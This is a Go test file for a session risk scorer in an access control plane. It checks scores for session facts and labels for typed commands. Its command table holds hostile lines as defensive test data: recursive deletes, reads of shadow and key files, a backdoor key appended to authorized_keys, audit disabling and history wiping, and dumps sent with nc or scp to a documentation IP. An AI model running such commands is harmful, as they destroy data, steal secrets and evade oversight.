package sessions_test

import (
	"slices"
	"strings"
	"testing"
	"time"

	"ostler/controlplane/sessions"
)

// A Tuesday at noon, on which nothing is out of the ordinary.
var noon = time.Date(2026, 11, 17, 12, 0, 0, 0, time.UTC)

func TestRisk(t *testing.T) {
	berlin, err := time.LoadLocation("Europe/Berlin")
	if err != nil {
		t.Fatal(err)
	}
	plain := sessions.RiskFacts{Login: "ops", Start: noon, Length: time.Minute, Names: 1}
	with := func(change func(*sessions.RiskFacts)) sessions.RiskFacts { f := plain; change(&f); return f }
	for _, tt := range []struct {
		name  string
		facts sessions.RiskFacts
		score int
		why   string // joined by a space, without "risk."
	}{
		{"nothing", plain, 0, ""},
		{"nobody", with(func(f *sessions.RiskFacts) { f.Lacks = []string{"person"} }), 50, "no_person"},
		{"no ticket, no authorisation", with(func(f *sessions.RiskFacts) { f.Lacks = []string{"authorisation", "ticket"} }), 50, "no_ticket no_authorisation"},
		{"no grant", with(func(f *sessions.RiskFacts) { f.Lacks = []string{"grant"} }), 50, "no_grant"},
		{"emergency", with(func(f *sessions.RiskFacts) { f.BreakGlass = true }), 50, "break_glass"},
		{"root", with(func(f *sessions.RiskFacts) { f.Login = "root" }), 15, "root"},
		{"night", with(func(f *sessions.RiskFacts) { f.Start = noon.Add(10 * time.Hour) }), 15, "night"},
		{"night of another zone", with(func(f *sessions.RiskFacts) { f.Start, f.Zone = noon.Add(9*time.Hour+30*time.Minute), berlin }), 15, "night"},
		{"evening", with(func(f *sessions.RiskFacts) { f.Start = noon.Add(9*time.Hour + 30*time.Minute) }), 0, ""},
		{"weekend", with(func(f *sessions.RiskFacts) { f.Start = noon.AddDate(0, 0, 4) }), 15, "weekend"},
		{"two hours", with(func(f *sessions.RiskFacts) { f.Length = 2 * time.Hour }), 0, ""},
		{"longer", with(func(f *sessions.RiskFacts) { f.Length = 2*time.Hour + time.Second }), 15, "long"},
		{"two persons", with(func(f *sessions.RiskFacts) { f.Names = 2 }), 10, "joined"},
		{"one name, several persons", with(func(f *sessions.RiskFacts) { f.SharedName = true }), 30, "shared_name"},
		{"no recording", with(func(f *sessions.RiskFacts) { f.Missing = true }), 40, "missing"},
		{"half a recording", with(func(f *sessions.RiskFacts) { f.Partial = true }), 25, "partial"},
		{"from elsewhere", with(func(f *sessions.RiskFacts) { f.NewAddress = true }), 20, "new_address"},
		{"all at once", sessions.RiskFacts{Lacks: []string{"person", "grant"}, BreakGlass: true, Login: "root", Start: noon.AddDate(0, 0, 4).Add(-9 * time.Hour), Length: 9 * time.Hour, Names: 2}, 100,
			"no_person no_grant break_glass root night weekend long joined"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := sessions.RiskOf(tt.facts)
			if why := strings.ReplaceAll(strings.Join(got.Why, " "), "risk.", ""); got.Score != tt.score || why != tt.why {
				t.Errorf("got %d %q, want %d %q", got.Score, why, tt.score, tt.why)
			}
		})
	}
}

func TestRiskOfCommands(t *testing.T) {
	for command, want := range map[string]string{
		"ls -la /var/log":                                 "",
		"systemctl restart nginx":                         "",
		"systemctl status auditd":                         "",
		"rm /tmp/a":                                       "",
		"cat /etc/passwd":                                 "",
		"man passwd-file":                                 "",
		"iptables -L -n":                                  "",
		"nft list ruleset":                                "",
		"curl https://example.com/health":                 "",
		"rsync -a /srv/shop /srv/shop.bak":                "",
		"cat id_ed25519.pub":                              "",
		"rm -rf /srv/shop":                                "deleted",
		"sudo rm --recursive /srv/shop":                   "deleted",
		"rm -f -r /srv/shop":                              "deleted",
		"find /srv -name '*.bak' -delete":                 "deleted",
		"mkfs.ext4 /dev/sdb1":                             "deleted",
		"mysql -e 'DROP TABLE orders'":                    "deleted",
		"sudo cat /etc/shadow":                            "secrets",
		"cat /root/.ssh/id_ed25519":                       "secrets",
		"less /etc/ssl/private/shop.key":                  "secrets",
		"useradd mallory":                                 "accounts",
		"sudo visudo":                                     "accounts",
		"echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys": "accounts",
		"iptables -F":                                     "defences",
		"ufw disable":                                     "defences",
		"vi /etc/ssh/sshd_config":                         "defences",
		"unset HISTFILE":                                  "blinded",
		"history -c":                                      "blinded",
		"systemctl stop auditd":                           "blinded",
		"sudo systemctl disable --now teleport":           "blinded",
		"auditctl -e 0":                                   "blinded",
		"truncate -s 0 /var/log/auth.log":                 "blinded",
		"rm ~/.bash_history":                              "blinded",
		"scp /srv/shop.sql me@203.0.113.9:":               "copied_out",
		"rsync -a /srv/ me@203.0.113.9:/tmp":              "copied_out",
		"curl -T db.sql ftp://203.0.113.9/":               "copied_out",
		"curl -X POST --data-binary @db.sql https://x":    "copied_out",
		"tar c /srv | nc 203.0.113.9 9":                   "copied_out",
		"mysqldump shop":                                  "dumped",
		"sudo -u postgres pg_dumpall":                     "dumped",
		"mysqldump shop | nc 203.0.113.9 9":               "copied_out dumped",
	} {
		got := sessions.RiskOf(sessions.RiskFacts{Login: "ops", Start: noon, Names: 1, Commands: []string{"ls", command}})
		if why := strings.ReplaceAll(strings.Join(got.Why, " "), "risk.", ""); why != want {
			t.Errorf("%s: got %q, want %q", command, why, want)
		}
	}
}

// Every risk has its sentence, and no other key has one.
func TestRiskText(t *testing.T) {
	keys := sessions.RiskKeys()
	for _, k := range keys {
		if text := sessions.RiskText(k); !strings.HasSuffix(text, ".") || !strings.HasPrefix(k, "risk.") {
			t.Errorf("%s reads %q", k, text)
		}
	}
	if len(keys) < 20 || len(slices.Compact(slices.Sorted(slices.Values(keys)))) != len(keys) || sessions.RiskText("risk.luck") != "" {
		t.Errorf("keys: %v", keys)
	}
}
